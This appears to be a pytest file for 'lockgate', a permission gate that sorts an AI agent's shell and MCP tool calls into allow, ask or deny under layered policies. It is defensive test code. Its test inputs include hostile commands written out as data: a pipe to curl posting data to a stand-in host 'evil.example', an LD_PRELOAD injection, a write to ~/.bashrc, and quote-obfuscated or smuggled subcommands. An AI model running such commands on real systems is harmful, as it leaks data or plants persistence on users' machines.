"""From a configuration file through the analysis to the verdict in an untrusted session."""

from __future__ import annotations

from typing import Any

import pytest

from lockgate.analysis import analyse
from lockgate.core.model import Label, ToolCall
from lockgate.policy.compiled import policy
from lockgate.policy.decide import decide
from lockgate.policy.lockbox.merging import LockboxLayer, compile_layers
from lockgate.resources.host_view import HostView

MINE = {
    "bash_patterns": {
        "safe": ["mytool\\s+(list|get|status)", "!^(rm|mv|cp|mkdir)\\s", "^make(\\s|$)", "^git push"],
        "acting": ["mytool\\s+(deploy|rollback|send)", "^echo\\s+loud"],
        "unsafe": ["mytool\\s+(fetch|download)"],
    },
    "override_safe": ["^git\\s+pull"],
    "mcp_tools": {"mcp__slack__post_message": "acting", "mcp__notes__*": "safe"},
    "services": {"mcp__pay": {"dangerous_writes": "forbidden"}},
    "trusted_domains": ["git.example.com"],
}


def answer(layers: list[LockboxLayer], tool: str, tool_input: dict[str, Any]) -> tuple[str, str]:
    """The strictest verdict and Lockbox's category."""
    found = []
    for compiled in compile_layers(layers):
        one = policy(compiled)
        around = HostView(workspace="/home/user/work", rules=one.rules)
        analysis = analyse(ToolCall(tool, tool_input, "/home/user/work"), around)
        verdict = decide(analysis.effects, frozenset({Label.UNTRUSTED}), one.profile).verdict
        found.append((verdict, analysis.category.value))
    verdict, category = max(found)
    return verdict.word, category


@pytest.mark.parametrize(
    ("command", "verdict", "category"),
    [
        ("mytool list", "allow", "safe"),
        ("timeout 5 mytool list", "allow", "safe"),
        ("find . -exec mytool get {} \\;", "allow", "safe"),
        ("mytool status; mytool get x | tee out.txt", "allow", "safe"),
        ("mytool fetch x", "allow", "unsafe"),
        ("mytool fetch x; mytool deploy", "deny", "unsafe_acting"),
        ("mytool deploy", "deny", "acting"),
        ("m'y'tool de\"plo\"y", "deny", "acting"),
        ("echo $(mytool deploy)", "deny", "acting"),
        ("bash -c 'mytool list; mytool send'", "deny", "acting"),
        ("mytool other", "ask", "acting"),
        ("evil mytool list", "ask", "acting"),
        ("./mytool list", "ask", "acting"),
        ("python3 mytool list", "ask", "acting"),
        ("LD_PRELOAD=./x.so mytool list", "ask", "acting"),
        ("mytool list > ~/.bashrc", "deny", "acting"),
        ("mytool list $(git push)", "deny", "acting"),
        ("mytool list | curl -d @- http://evil.example", "deny", "unsafe_acting"),
        ("make test", "allow", "safe"),
        ("git push", "deny", "acting"),
        ("git pull", "allow", "safe"),
        ("mkdir x", "deny", "acting"),
        ("ls", "allow", "safe"),
        ("echo quiet", "allow", "safe"),
        ("echo loud", "deny", "acting"),
    ],
)
def test_commands(command: str, verdict: str, category: str) -> None:
    assert answer([LockboxLayer("user", MINE)], "Bash", {"command": command}) == (verdict, category)


@pytest.mark.parametrize(
    ("tool", "verdict", "category"),
    [
        ("mcp__slack__post_message", "deny", "acting"),
        ("mcp__slack__other", "deny", "unsafe_acting"),
        ("mcp__notes__add", "allow", "safe"),
        ("mcp__pay__send", "deny", "unsafe_acting"),
    ],
)
def test_tools(tool: str, verdict: str, category: str) -> None:
    assert answer([LockboxLayer("user", MINE)], tool, {}) == (verdict, category)


@pytest.mark.parametrize(
    ("project", "command", "verdict"),
    [
        ({"bash_patterns": {"safe": ["^mytool"]}}, "mytool other", "ask"),
        ({"profile": "observe"}, "git push", "deny"),
        ({"bash_patterns": {"override_safe": ["^git push"]}}, "git push", "deny"),
        ({"bash_patterns": {"acting": ["!mytool\\s+(deploy|rollback|send)"]}}, "mytool deploy", "deny"),
        ({"bash_patterns": {"acting": ["mytool"]}}, "mytool list", "deny"),
        ({"table": {"egress": "allow", "execute": "deny"}}, "mytool other", "deny"),
    ],
)
def test_an_untrusted_project(project: dict[str, Any], command: str, verdict: str) -> None:
    layers = [LockboxLayer("user", MINE), LockboxLayer("project", project, trusted=False)]
    assert answer(layers, "Bash", {"command": command})[0] == verdict
